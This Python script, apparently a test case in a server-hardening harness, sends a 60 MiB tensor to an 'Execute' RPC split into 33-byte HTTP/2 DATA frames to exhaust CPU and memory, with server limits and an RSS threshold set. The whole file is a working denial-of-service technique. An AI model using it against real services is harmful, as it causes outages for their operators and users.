"""A tensor of 60 MiB in DATA frames of 33 bytes: as many slices, and gathering them begins at the first one for every
256 KiB.

Cost: 80 MiB. Found: 15 MiB take 0.3 CPU-s, 60 MiB 1.5, 120 MiB 4.0; and what is gathered fills --memory-limit.
"""

import struct

import http2
import wire
from attack import Attack, Target, run

ELEMENTS = 15 << 20
FRAME_BYTES = 33


def in_small_frames(content: bytes, stream: int) -> bytes:
    header = struct.pack(">I", FRAME_BYTES)[1:] + struct.pack(">BBI", http2.DATA, 0, stream)
    return b"".join(header + content[i : i + FRAME_BYTES] for i in range(0, len(content), FRAME_BYTES))


PIECE = 1 << 16
# The same frames again and again: zeros in the middle of a large tensor.
ZEROS = in_small_frames(bytes(PIECE // FRAME_BYTES * FRAME_BYTES), 1)


def send(target: Target) -> None:
    connection = target.connect()
    message = wire.execute(wire.call("Hardshrink", [wire.tensor("self", wire.FLOAT32, [ELEMENTS], raw=0)], lambd=0.5))
    message += wire.varint(15 << 3 | 2) + wire.varint(ELEMENTS * 4)
    call = connection.begin("Execute")
    connection.write(call, struct.pack(">BI", 0, len(message) + ELEMENTS * 4) + message)
    left, of_piece = ELEMENTS * 4, PIECE // FRAME_BYTES * FRAME_BYTES
    while left > of_piece:
        connection.take_window(call, of_piece)
        connection.send(ZEROS)
        left -= of_piece
    connection.write(call, bytes(left), end=True, frame_bytes=FRAME_BYTES)
    connection.await_end(call, target.seconds)


if __name__ == "__main__":
    run(Attack([send, send], {"--max-message-bytes": "64MiB", "--process-memory-limit": "768MiB"}, rss_mib=900))
